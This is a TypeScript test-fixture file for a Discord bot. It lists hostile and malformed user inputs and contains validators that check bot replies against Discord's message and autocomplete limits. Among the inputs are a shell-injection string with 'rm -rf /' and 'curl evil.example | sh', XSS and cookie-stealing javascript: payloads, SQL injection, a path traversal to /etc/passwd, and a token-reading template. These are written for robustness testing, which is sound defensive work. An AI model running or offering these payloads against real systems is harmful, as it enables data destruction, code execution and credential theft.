/**
 * Hostile and odd inputs a user can type into `/ask`, `/search` or an
 * autocomplete box, shared by the core tests (`hostile-core.test.ts`) and the
 * end-to-end tests through the fake Discord (`e2e/hostile.test.ts`).
 *
 * Every entry must be handled without a crash, a stack trace, a ping or a
 * message over Discord's limits. Texts are built in code where a literal would
 * be unreadable (invisible characters, lone surrogates, thousands of characters).
 */

/** One hostile input: a stable name for test titles, and the text itself. */
export interface HostileInput {
  name: string;
  text: string;
}

const QUESTION = 'Who led Ukraine’s delegation?';
const ZALGO_MARKS = '\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u0336';

/** Puts a run of combining marks on every letter ("Zalgo" text). */
function zalgo(text: string, marksPerLetter: number): string {
  return [...text]
    .map((letter) => letter + ZALGO_MARKS.repeat(Math.ceil(marksPerLetter / 12)))
    .join('');
}

/**
 * Whether a text holds half of a surrogate pair on its own (not valid UTF-16;
 * `String.prototype.isWellFormed` is ES2024, beyond the project's typings).
 *
 * @example
 * hasLoneSurrogate('\ud800') // => true
 * hasLoneSurrogate('👍') // => false
 */
export function hasLoneSurrogate(text: string): boolean {
  return /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text);
}

/** The hostile inputs, each with a unique name. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  // Emptiness and size
  { name: 'empty string', text: '' },
  { name: 'single space', text: ' ' },
  { name: 'whitespace only (spaces, tabs, newlines)', text: ' \t\n\r\n\t  ' },
  { name: 'unicode spaces only (NBSP, ideographic, em space)', text: '\u00a0\u3000\u2003\u2009' },
  { name: 'one letter', text: 'a' },
  { name: 'one digit', text: '7' },
  { name: 'one punctuation mark', text: '?' },
  { name: '6000 characters of words', text: 'talks '.repeat(1000) },
  { name: 'exactly 500 characters', text: `${'a'.repeat(495)} war?` },
  { name: '501 characters', text: `${'b'.repeat(496)} war?` },
  { name: 'very long single word (5000 letters)', text: 'x'.repeat(5000) },
  { name: 'long single word within limits (400 letters)', text: 'Istanbul'.repeat(50) },
  { name: 'question repeated 1000 times', text: `${QUESTION} `.repeat(1000) },
  { name: 'very many short words (250)', text: 'a b '.repeat(125) },
  {
    name: 'many distinct words (80)',
    text: Array.from({ length: 80 }, (_, i) => `w${i}`).join(' '),
  },
  { name: 'numbers only', text: '1000 2025 16 5' },
  { name: 'one huge number', text: '9'.repeat(400) },

  // Emoji and symbols
  { name: 'emoji only', text: '🇺🇦🤝🇷🇺🕊️💥🔥' },
  { name: 'emoji with skin tones and ZWJ families', text: '👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈' },
  { name: 'emoji between words', text: 'who 👤 led 🧭 the delegation 🇺🇦?' },
  { name: 'symbols only', text: '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~' },

  // Invisible and direction-changing characters
  { name: 'zero-width spaces only', text: '\u200b\u200b\u200b' },
  {
    name: 'zero-width characters inside words',
    text: 'Med\u200binsky le\u200cd the dele\u200dgation\ufeff',
  },
  { name: 'right-to-left override', text: '\u202eWho led the delegation?\u202c' },
  { name: 'bidi isolates', text: '\u2066Who\u2069 \u2067led\u2069 \u2068the delegation\u2069?' },
  { name: 'left-to-right and right-to-left marks', text: '\u200eWho\u200f led\u200e?' },
  { name: 'soft hyphens', text: 'dele\u00adgation pris\u00adoners' },
  { name: 'word joiner and invisible operators', text: 'cease\u2060fire\u2062\u2063\u2064' },

  // Combining marks
  { name: 'zalgo question', text: zalgo('who led the delegation', 12) },
  { name: 'heavy zalgo within the length limit', text: zalgo('war', 120) },
  { name: 'combining marks only', text: ZALGO_MARKS.repeat(10) },

  // Markdown and Discord formatting
  { name: 'markdown emphasis', text: '**bold** __underline__ *italic* ~~strike~~ `code`' },
  { name: 'code fence', text: '```js\nprocess.exit(1)\n```' },
  { name: 'unclosed code fence', text: '```who led the delegation' },
  { name: 'spoiler', text: '||who led the delegation||' },
  { name: 'block quote', text: '> who led\n>>> the delegation' },
  { name: 'heading', text: '# Who led the delegation?' },
  { name: 'subtext and list', text: '-# tiny\n- item\n1. first' },
  {
    name: 'timestamp and custom emoji markup',
    text: '<t:1747353600:R> <:pepe:123456789012345678>',
  },

  // Mentions
  { name: '@everyone', text: '@everyone who led the delegation?' },
  { name: '@here', text: '@here prisoners' },
  { name: 'user mention', text: '<@123456789012345678> who led the delegation?' },
  { name: 'nickname mention', text: '<@!123456789012345678> sanctions' },
  { name: 'role mention', text: '<@&123456789012345678> ceasefire' },
  { name: 'channel mention', text: '<#123456789012345678> Istanbul' },
  { name: 'mention spelled with a zero-width space', text: '@\u200beveryone @\u200bhere' },
  { name: 'slash command mention', text: '</ask:123456789012345678> talks' },

  // Links
  { name: 'masked link', text: '[click](https://evil.example) who led the delegation' },
  { name: 'masked link with angle brackets', text: '[Sky News](<https://evil.example/x>)' },
  { name: 'bare URL', text: 'https://evil.example/phish?token=abc' },
  { name: 'javascript URL', text: 'javascript:alert(document.cookie)' },
  { name: 'invite link', text: 'discord.gg/abcdef join now' },

  // Injection look-alikes
  { name: 'HTML script tag', text: '<script>alert("x")</script> talks' },
  { name: 'HTML image with onerror', text: '<img src=x onerror=alert(1)>' },
  { name: 'SQL injection', text: "' OR 1=1; DROP TABLE passages; --" },
  { name: 'shell injection', text: '$(rm -rf /) `reboot` && curl evil.example | sh' },
  { name: 'path traversal', text: '../../../etc/passwd' },
  {
    name: 'template and prototype keys',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal placeholder is the hostile input.
    text: '${process.env.DISCORD_TOKEN} __proto__ constructor',
  },
  { name: 'JSON text', text: '{"question": "who", "limit": 99999}' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: regex metacharacters, not a template.
  { name: 'regex metacharacters', text: '.*+?^${}()|[]\\ (a+)+$ [^\\]' },
  { name: 'catastrophic regex shape', text: `${'a'.repeat(60)}!` },
  { name: 'format strings', text: '%s %d %n %x {0} {{name}}' },

  // Control characters and broken Unicode
  { name: 'null bytes', text: 'who\u0000 led\u0000 the\u0000 delegation' },
  { name: 'control characters', text: '\u0001\u0007\u001b[31mred\u001b[0m\u007f' },
  { name: 'lone high surrogate', text: '\ud800' },
  { name: 'lone low surrogate inside a word', text: 'dele\udc00gation' },
  { name: 'reversed surrogate pair', text: '\udc00\ud800 talks' },
  { name: 'newlines and tabs', text: 'who\nled\tthe\r\ndelegation\n\n\n?' },
  { name: 'line and paragraph separators', text: 'who\u2028led\u2029the delegation' },
  { name: 'private use and noncharacters', text: '\ue000\uf8ff\ufffe\uffff talks' },
  { name: 'replacement characters', text: '\ufffd\ufffd Istanbul' },

  // Other scripts and look-alikes
  { name: 'Cyrillic homoglyphs', text: 'Whо lеd thе dеlеgаtiоn?' },
  { name: 'fullwidth Latin', text: 'Ｗｈｏ ｌｅｄ ｔｈｅ ｄｅｌｅｇａｔｉｏｎ？' },
  { name: 'mathematical bold letters', text: '𝐖𝐡𝐨 𝐥𝐞𝐝 𝐭𝐡𝐞 𝐝𝐞𝐥𝐞𝐠𝐚𝐭𝐢𝐨𝐧?' },
  { name: 'Arabic', text: 'من قاد الوفد الأوكراني؟' },
  { name: 'Hebrew', text: 'מי הוביל את המשלחת?' },
  { name: 'Arabic mixed with English', text: 'Who led الوفد the delegation?' },
  { name: 'Chinese', text: '谁率领了乌克兰代表团？' },
  { name: 'Japanese', text: 'ウクライナ代表団を率いたのは誰ですか' },
  { name: 'Russian', text: 'Кто возглавил украинскую делегацию?' },
  { name: 'Hindi with combining vowel signs', text: 'प्रतिनिधिमंडल का नेतृत्व किसने किया?' },
  { name: 'Thai without spaces', text: 'ใครเป็นผู้นำคณะผู้แทนยูเครน' },
  { name: 'Turkish dotted and dotless i', text: 'İSTANBUL ıstanbul Istanbul' },
];

/** Discord's limits, in code points, as the API enforces them (https://discord.com/developers/docs/resources/message). */
const LIMITS = {
  content: 2000,
  embeds: 10,
  embedTitle: 256,
  embedDescription: 4096,
  fields: 25,
  fieldName: 256,
  fieldValue: 1024,
  footer: 2048,
  authorName: 256,
  embedsTotal: 6000,
  rows: 5,
  buttonsPerRow: 5,
  customId: 100,
  buttonLabel: 80,
  choices: 25,
  choiceName: 100,
  choiceValue: 100,
} as const;

type Loose = Record<string, unknown>;

const asObject = (value: unknown): Loose =>
  typeof value === 'object' && value !== null ? (value as Loose) : {};
const asArray = (value: unknown): unknown[] => (Array.isArray(value) ? value : []);
const text = (value: unknown): string => (typeof value === 'string' ? value : '');
const length = (value: unknown): number => [...text(value)].length;

/** A mention Discord would turn into a ping if `allowed_mentions` allowed it. */
const RAW_MENTION = /@everyone|@here|<@[!&]?\d+>/;

/**
 * Every way a message payload breaks Discord's rules or could ping someone:
 * limits counted in code points, split surrogate pairs, empty fields, missing
 * or non-empty `allowed_mentions.parse`, and raw mentions in any shown text.
 * Accepts the API shape (`allowed_mentions`) and the bot's `allowedMentions`.
 * Returns an empty list when the payload is fine.
 *
 * @example
 * messageProblems({ content: '@everyone', allowed_mentions: { parse: [] } }) // => ['content has a raw mention: …']
 */
export function messageProblems(payload: unknown): string[] {
  const problems: string[] = [];
  const message = asObject(payload);
  const check = (what: string, value: unknown, max: number, required = false) => {
    if (value === undefined || value === null) {
      if (required) problems.push(`${what} is missing`);
      return;
    }
    if (typeof value !== 'string') {
      problems.push(`${what} is not a string`);
      return;
    }
    if (length(value) > max) problems.push(`${what} is ${length(value)} code points (max ${max})`);
    if (required && value.trim() === '') problems.push(`${what} is empty`);
    if (hasLoneSurrogate(value)) problems.push(`${what} splits a surrogate pair`);
  };
  const shown: Array<[string, unknown]> = [['content', message.content]];

  check('content', message.content, LIMITS.content);
  const embeds = asArray(message.embeds);
  if (embeds.length > LIMITS.embeds)
    problems.push(`${embeds.length} embeds (max ${LIMITS.embeds})`);
  let total = 0;
  for (const [i, raw] of embeds.entries()) {
    const embed = asObject(raw);
    const footer = asObject(embed.footer).text;
    const author = asObject(embed.author).name;
    check(`embed ${i} title`, embed.title, LIMITS.embedTitle);
    check(`embed ${i} description`, embed.description, LIMITS.embedDescription);
    check(`embed ${i} footer`, footer, LIMITS.footer);
    check(`embed ${i} author`, author, LIMITS.authorName);
    shown.push([`embed ${i} title`, embed.title], [`embed ${i} description`, embed.description]);
    shown.push([`embed ${i} footer`, footer]);
    total += length(embed.title) + length(embed.description) + length(footer) + length(author);
    const fields = asArray(embed.fields);
    if (fields.length > LIMITS.fields) problems.push(`embed ${i} has ${fields.length} fields`);
    for (const [j, rawField] of fields.entries()) {
      const field = asObject(rawField);
      check(`embed ${i} field ${j} name`, field.name, LIMITS.fieldName, true);
      check(`embed ${i} field ${j} value`, field.value, LIMITS.fieldValue, true);
      shown.push([`embed ${i} field ${j}`, field.value]);
      total += length(field.name) + length(field.value);
    }
  }
  if (total > LIMITS.embedsTotal) problems.push(`embeds total ${total} code points (max 6000)`);
  if (text(message.content).trim() === '' && embeds.length === 0) problems.push('message is empty');

  const rows = asArray(message.components);
  if (rows.length > LIMITS.rows) problems.push(`${rows.length} action rows (max ${LIMITS.rows})`);
  const customIds = new Set<string>();
  for (const [i, rawRow] of rows.entries()) {
    const buttons = asArray(asObject(rawRow).components);
    if (buttons.length === 0 || buttons.length > LIMITS.buttonsPerRow) {
      problems.push(`row ${i} has ${buttons.length} components`);
    }
    for (const [j, rawButton] of buttons.entries()) {
      const button = asObject(rawButton);
      check(`button ${i}.${j} label`, button.label, LIMITS.buttonLabel);
      shown.push([`button ${i}.${j} label`, button.label]);
      if (button.url === undefined) {
        check(`button ${i}.${j} custom_id`, button.custom_id, LIMITS.customId, true);
        const id = text(button.custom_id);
        if (customIds.has(id)) problems.push(`custom_id ${id} is used twice`);
        customIds.add(id);
      }
    }
  }

  const mentions = asObject(message.allowed_mentions ?? message.allowedMentions);
  const parse = mentions.parse;
  if (!Array.isArray(parse) || parse.length > 0) {
    problems.push(`allowed_mentions.parse is ${JSON.stringify(parse)}, not []`);
  }
  for (const [what, value] of shown) {
    const match = RAW_MENTION.exec(text(value));
    if (match) problems.push(`${what} has a raw mention: ${match[0]}`);
  }
  return problems;
}

/**
 * Every way an autocomplete response breaks Discord's rules: more than 25
 * choices, or a name or value empty, over 100 code points or with a split
 * surrogate pair.
 *
 * @example
 * choiceProblems({ choices: [{ name: '', value: 'x' }] }) // => ['choice 0 name is 0 code points']
 */
export function choiceProblems(data: unknown): string[] {
  const problems: string[] = [];
  const choices = asObject(data).choices;
  if (!Array.isArray(choices)) return ['choices is not a list'];
  if (choices.length > LIMITS.choices) problems.push(`${choices.length} choices (max 25)`);
  for (const [i, raw] of choices.entries()) {
    const choice = asObject(raw);
    for (const key of ['name', 'value'] as const) {
      const value = choice[key];
      const max = key === 'name' ? LIMITS.choiceName : LIMITS.choiceValue;
      if (typeof value !== 'string') {
        problems.push(`choice ${i} ${key} is not a string`);
        continue;
      }
      if (length(value) < 1 || length(value) > max) {
        problems.push(`choice ${i} ${key} is ${length(value)} code points`);
      }
      if (hasLoneSurrogate(value)) problems.push(`choice ${i} ${key} splits a surrogate pair`);
    }
    if (RAW_MENTION.test(text(choice.name))) problems.push(`choice ${i} name has a raw mention`);
  }
  return problems;
}
